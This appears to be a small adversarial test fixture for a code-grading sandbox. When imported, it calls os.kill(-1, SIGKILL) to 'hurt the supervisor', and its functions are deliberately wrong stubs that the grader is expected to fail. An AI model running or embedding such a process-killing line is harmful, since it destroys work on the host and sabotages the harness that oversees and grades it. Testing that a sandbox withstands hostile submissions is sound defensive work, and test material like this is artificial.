"""Attack: hurt the supervisor: kill(-1)."""
import os, signal
os.kill(-1, signal.SIGKILL)


def batched(iterable, size):
    """Deliberately wrong: an attack must never be graded as passing."""
    return [[0]]


def read_jsonl(path):
    return iter(())
